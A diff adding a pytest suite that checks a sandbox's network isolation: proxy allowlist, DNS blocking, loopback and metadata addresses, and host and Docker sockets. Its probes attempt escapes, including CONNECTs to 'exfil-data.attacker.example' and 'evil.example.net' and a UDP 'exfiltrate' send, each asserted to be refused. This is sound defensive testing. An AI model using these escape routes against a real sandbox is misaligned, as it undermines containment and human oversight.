@@ -1,0 +1,443 @@
+"""The network (DESIGN.md §9 A-D): no route around the proxy, the proxy's own rules, no resolver,
+no host sockets. Every address here is loopback: the allow path goes through the
+``EGG_TEST_NETWORK`` seam, which resolves a name to a public-looking address (so the proxy's
+address checks run as in production) and connects to a loopback listener instead."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import struct
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from .conftest import Box, Listen, Listener
+
+PUBLIC = "93.184.216.34"  # what the seam says api.example.com resolves to
+SEAM = "EGG_TEST_NETWORK"
+
+PROXY = r"""
+def via_proxy(target, payload=b"ping", method="CONNECT", path=""):
+    proxy = os.environ.get("HTTPS_PROXY", "")
+    if not proxy:
+        return {"status": "no proxy variable"}
+    host, port = proxy.split("://", 1)[1].rstrip("/").rsplit(":", 1)
+    sock = socket.create_connection((host, int(port)), timeout=10)
+    if method == "CONNECT":
+        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    else:
+        sock.sendall(
+            f"GET http://{target}{path} HTTP/1.1\r\nHost: {target}\r\n"
+            "Proxy-Authorization: Basic c2VjcmV0\r\n\r\n".encode()
+        )
+    head = b""
+    while b"\r\n\r\n" not in head:
+        chunk = sock.recv(4096)
+        if not chunk:
+            break
+        head += chunk
+    status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else None
+    reply = None
+    if method == "CONNECT" and status == 200:
+        sock.sendall(payload)
+        reply = sock.recv(4096).decode()
+    elif method != "CONNECT":
+        reply = head.decode(errors="replace")
+    sock.close()
+    return {"status": status, "reply": reply}
+"""
+
+
+def seam(*mappings: tuple[str, str, int]) -> dict[str, str]:
+    """``EGG_TEST_NETWORK`` for (name, address the name resolves to, loopback port)."""
+    return {SEAM: ",".join(f"{name}={addr}@127.0.0.1:{port}" for name, addr, port in mappings)}
+
+
+def log_lines(path: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
+
+
+@pytest.fixture
+def tcp(listen: Listen) -> Listener:
+    return listen(socket.AF_INET, ("127.0.0.1", 0))
+
+
+def free_port() -> int:
+    """An unprivileged loopback port nothing listens on (the bridge cannot bind below 1024)."""
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return int(sock.getsockname()[1])
+
+
+POLICIES: dict[str, dict[str, Any] | None] = {
+    "no-network": None,
+    "allowlist": {"network": ["api.example.com"]},
+    "observe": {"network": {"domains": ["api.example.com"], "mode": "observe"}},
+    "other-local-port": {"network": {"local_ports": [free_port()]}},
+}
+
+
+# -- A: direct sockets around the proxy
+
+
+@pytest.mark.parametrize("policy", list(POLICIES))
+def test_tcp_to_a_host_loopback_port_is_unreachable(box: Box, tcp: Listener, policy: str) -> None:
+    found = box.probe(
+        f"report(connect=attempt(connect, socket.AF_INET, ('127.0.0.1', {tcp.port})))",
+        config=POLICIES[policy],
+    )
+
+    assert found["connect"] != "ok"
+    assert tcp.received_nothing()
+
+
+@pytest.mark.parametrize("policy", ["no-network", "allowlist"])
+def test_udp_to_a_host_loopback_port_never_arrives(box: Box, listen: Listen, policy: str) -> None:
+    udp = listen(socket.AF_INET, ("127.0.0.1", 0), socket.SOCK_DGRAM)
+
+    box.probe(
+        "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        f"results = [attempt(sock.sendto, b'exfiltrate', ('127.0.0.1', {udp.port}))"
+        " for _ in range(5)]\n"
+        "report(sent=results)",
+        config=POLICIES[policy],
+    )
+
+    assert udp.received_nothing()
+
+
+def test_ipv6_loopback_of_the_host_is_unreachable(box: Box, listen: Listen) -> None:
+    tcp6 = listen(socket.AF_INET6, ("::1", 0))
+    udp6 = listen(socket.AF_INET6, ("::1", 0), socket.SOCK_DGRAM)
+
+    found = box.probe(
+        f"report(tcp=attempt(connect, socket.AF_INET6, ('::1', {tcp6.port})),"
+        f" udp=attempt(connect, socket.AF_INET6, ('::1', {udp6.port}), socket.SOCK_DGRAM))",
+        config=POLICIES["allowlist"],
+    )
+
+    assert found["tcp"] != "ok"
+    assert tcp6.received_nothing()
+    assert udp6.received_nothing()
+
+
+def test_abstract_unix_socket_of_the_host_is_unreachable(box: Box, listen: Listen) -> None:
+    name = f"\0egg-test-{box.secret}"
+    abstract = listen(socket.AF_UNIX, name)
+
+    found = box.probe(
+        f"report(connect=attempt(connect, socket.AF_UNIX, {name!r}))",
+        config=POLICIES["allowlist"],
+    )
+
+    assert found["connect"] == "ECONNREFUSED"
+    assert abstract.received_nothing()
+
+
+@pytest.mark.parametrize("policy", ["no-network", "allowlist"])
+def test_only_loopback_exists_and_there_is_no_route(box: Box, policy: str) -> None:
+    found = box.probe(
+        "routes = read('/proc/net/route').decode().splitlines()[1:]\n"
+        "routes6 = [l for l in read('/proc/net/ipv6_route').decode().splitlines()"
+        " if not l.rstrip().endswith('lo')]\n"
+        "devices = read('/proc/net/dev').decode().splitlines()[2:]\n"
+        "report(interfaces=sorted(l.split(':')[0].strip() for l in devices), routes=routes,"
+        " routes6=routes6)",
+        config=POLICIES[policy],
+    )
+
+    assert found == {"interfaces": ["lo"], "routes": [], "routes6": []}
+
+
+# -- C: DNS
+
+
+@pytest.fixture
+def fake_resolvers(listen: Listen) -> Iterator[list[Listener]]:
+    """UDP and TCP listeners on the loopback DNS addresses that are free on this host."""
+    found = []
+    for host in ("127.0.0.1", "127.0.0.53"):
+        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+            try:
+                found.append(listen(socket.AF_INET, (host, 53), kind))
+            except OSError:
+                continue
+    yield found
+
+
+@pytest.mark.parametrize("policy", ["no-network", "allowlist"])
+def test_no_dns_resolver_is_reachable(
+    box: Box, fake_resolvers: list[Listener], policy: str
+) -> None:
+    query = struct.pack(">HHHHHH", 0x4567, 0x0100, 1, 0, 0, 0)
+    query += b"".join(
+        bytes([len(p)]) + p.encode() for p in f"x{box.secret[-8:]}.example.com".split(".")
+    )
+    query += b"\0\0\1\0\1"
+
+    found = box.probe(
+        f"query = {query!r}\n"
+        "answers = {}\n"
+        "for host in ('127.0.0.1', '127.0.0.53'):\n"
+        "    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "    sock.settimeout(1)\n"
+        "    try:\n"
+        "        sock.connect((host, 53))\n"
+        "        sock.send(query)\n"
+        "        answers[host] = repr(sock.recv(512))\n"
+        "    except OSError as exc:\n"
+        "        answers[host] = type(exc).__name__\n"
+        "    answers[host + '/tcp'] = attempt(connect, socket.AF_INET, (host, 53))\n"
+        "report(**answers)",
+        config=POLICIES[policy],
+    )
+
+    assert all(v in ("ConnectionRefusedError", "ECONNREFUSED") for v in found.values()), found
+    for resolver in fake_resolvers:
+        assert resolver.received_nothing()
+
+
+def test_unlisted_name_is_refused_without_being_resolved(box: Box) -> None:
+    log = box.home / "network.log"
+
+    found = box.probe(
+        PROXY + "report(**via_proxy('exfil-data.attacker.example:443'))",
+        config=POLICIES["allowlist"],
+        options=["--network-log", str(log)],
+        env=seam(("unrelated.example.com", PUBLIC, 9)),  # fails for any other name
+    )
+
+    assert found["status"] == 403
+    (record,) = log_lines(log)
+    assert record["decision"] == "deny"
+    assert record["reason"] == "host not on the allowlist"
+
+
+# -- B: the proxy's rules
+
+
+def test_allowed_domain_is_reachable_through_the_proxy(box: Box, listen: Listen) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+
+    found = box.probe(
+        PROXY + "report(**via_proxy('api.example.com:443', b'hello api'))",
+        config=POLICIES["allowlist"],
+        env=seam(("api.example.com", PUBLIC, server.port)),
+    )
+
+    assert found == {"status": 200, "reply": "pong:hello api"}
+    assert server.hits == [b"hello api"]
+
+
+def test_plain_http_to_an_allowed_domain_is_forwarded_without_proxy_headers(
+    box: Box, listen: Listen
+) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+
+    found = box.probe(
+        PROXY + "report(**via_proxy('api.example.com', method='GET', path='/v1/models'))",
+        config=POLICIES["allowlist"],
+        env=seam(("api.example.com", PUBLIC, server.port)),
+    )
+
+    (request,) = server.hits
+    assert request.startswith(b"GET /v1/models HTTP/1.1\r\n")
+    assert b"proxy-authorization" not in request.lower()
+    assert found["reply"].startswith("pong:GET /v1/models")
+
+
+def test_connect_to_an_unlisted_domain_is_refused(box: Box, listen: Listen) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+
+    found = box.probe(
+        PROXY + "report(**via_proxy('other.example.net:443'))",
+        config=POLICIES["allowlist"],
+        env=seam(("other.example.net", PUBLIC, server.port)),
+    )
+
+    assert found["status"] == 403
+    assert server.received_nothing()
+
+
+def test_allowed_domain_on_an_unlisted_port_is_refused(box: Box, listen: Listen) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+
+    found = box.probe(
+        PROXY + "report(**via_proxy('api.example.com:22'))",
+        config=POLICIES["allowlist"],
+        env=seam(("api.example.com", PUBLIC, server.port)),
+    )
+
+    assert found["status"] == 403
+    assert server.received_nothing()
+
+
+@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.5", "169.254.169.254", "fd00::1"])
+def test_allowed_name_resolving_to_a_non_public_address_is_refused(
+    box: Box, listen: Listen, address: str
+) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+
+    found = box.probe(
+        PROXY + "report(**via_proxy('api.example.com:443'))",
+        config=POLICIES["allowlist"],
+        env=seam(("api.example.com", address, server.port)),
+    )
+
+    assert found["status"] == 403
+    assert server.received_nothing()
+
+
+def test_connect_to_a_host_loopback_port_through_the_proxy_is_refused(
+    box: Box, listen: Listen
+) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+    port = server.port
+    targets = [
+        f"127.0.0.1:{port}",
+        f"localhost:{port}",
+        f"127.1.2.3:{port}",
+        f"[::1]:{port}",
+        f"[::ffff:127.0.0.1]:{port}",
+        f"0.0.0.0:{port}",
+    ]
+
+    found = box.probe(
+        PROXY + f"report(**{{t: via_proxy(t)['status'] for t in {targets!r}}})",
+        config=POLICIES["allowlist"],
+        env=seam(("api.example.com", PUBLIC, port)),
+    )
+
+    assert found == dict.fromkeys(targets, 403)
+    assert server.received_nothing()
+
+
+def test_forwarded_local_port_answers(box: Box, listen: Listen) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+
+    found = box.probe(
+        f"sock = socket.create_connection(('127.0.0.1', {server.port}), timeout=5)\n"
+        "sock.sendall(b'hello model')\n"
+        "report(reply=sock.recv(100).decode())",
+        config={"network": {"local_ports": [server.port]}},
+    )
+
+    assert found == {"reply": "pong:hello model"}
+    assert server.hits == [b"hello model"]
+
+
+def test_observe_mode_allows_an_unlisted_domain_and_logs_would_deny(
+    box: Box, listen: Listen
+) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+    log = box.home / "network.log"
+
+    found = box.probe(
+        PROXY + "report(**via_proxy('unlisted.example.org:443', b'observed'))",
+        config=POLICIES["observe"],
+        env=seam(("unlisted.example.org", PUBLIC, server.port)),
+        options=["--network-log", str(log)],
+    )
+
+    assert found == {"status": 200, "reply": "pong:observed"}
+    (record,) = log_lines(log)
+    assert record["host"] == "unlisted.example.org"
+    assert record["decision"] == "allow"
+    assert record["would_deny"] is True
+
+
+def test_network_log_has_one_json_line_per_decision(box: Box, listen: Listen) -> None:
+    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
+    log = box.home / "network.log"
+
+    box.probe(
+        PROXY + "report(a=via_proxy('api.example.com:443'), b=via_proxy('evil.example.net:443'))",
+        config=POLICIES["allowlist"],
+        env=seam(("api.example.com", PUBLIC, server.port)),
+        options=["--network-log", str(log)],
+    )
+
+    records = log_lines(log)
+    assert [(r["host"], r["port"], r["decision"]) for r in records] == [
+        ("api.example.com", 443, "allow"),
+        ("evil.example.net", 443, "deny"),
+    ]
+    assert all(r["time"].endswith("Z") and r["reason"] for r in records)
+
+
+# -- D: unix sockets
+
+
+def unix_listener(box: Box, listen: Listen, path: Path) -> Listener:
+    box.mkdir(path.parent)
+    listener = listen(socket.AF_UNIX, str(path))
+    os.chmod(path, 0o777)
+    os.chown(path, box.identity.uid, box.identity.gid)
+    return listener
+
+
+@pytest.mark.parametrize("relative", ["tmux.sock", "tmux-1000/default"])
+def test_host_socket_in_the_workspace_is_unreachable(
+    box: Box, listen: Listen, relative: str
+) -> None:
+    path = box.workspace / relative
+    server = unix_listener(box, listen, path)
+
+    found = box.probe(f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))")
+
+    assert found["connect"] != "ok"
+    assert server.received_nothing()
+
+
+def test_host_socket_in_home_is_unreachable(box: Box, listen: Listen) -> None:
+    path = box.home / ".ide" / "ipc.sock"
+    server = unix_listener(box, listen, path)
+
+    found = box.probe(f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))")
+
+    assert found["connect"] != "ok"
+    assert server.received_nothing()
+
+
+@pytest.fixture(params=["/run/docker.sock", "/var/lib/incus/unix.socket"])
+def engine_socket(request: pytest.FixtureRequest, listen: Listen) -> Iterator[Listener | Path]:
+    """A container-engine control socket: the host's real one, or a stand-in listener."""
+    path = Path(request.param)
+    if path.exists():
+        yield path  # a real engine: only the sandbox side can be checked
+        return
+    created = [p for p in reversed(path.parents) if not p.exists()]
+    path.parent.mkdir(parents=True, exist_ok=True)
+    listener = listen(socket.AF_UNIX, str(path))
+    os.chmod(path, 0o666)
+    try:
+        yield listener
+    finally:
+        listener.close()
+        path.unlink(missing_ok=True)
+        for directory in reversed(created):
+            shutil.rmtree(directory, ignore_errors=True)
+
+
+def test_container_engine_socket_is_unreachable(box: Box, engine_socket: Listener | Path) -> None:
+    path = engine_socket if isinstance(engine_socket, Path) else engine_socket.address
+
+    found = box.probe(f"report(connect=attempt(connect, socket.AF_UNIX, {str(path)!r}))")
+
+    assert found["connect"] != "ok"
+    if isinstance(engine_socket, Listener):
+        assert engine_socket.received_nothing()
+
+
+def test_forwarding_a_privileged_local_port_is_refused_before_anything_starts(box: Box) -> None:
+    result = box.exec("sh", "-c", "touch started", config={"network": {"local_ports": [80]}})
+
+    assert result.returncode == 125
+    assert "local_ports 80" in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
+    assert not (box.workspace / "started").exists()
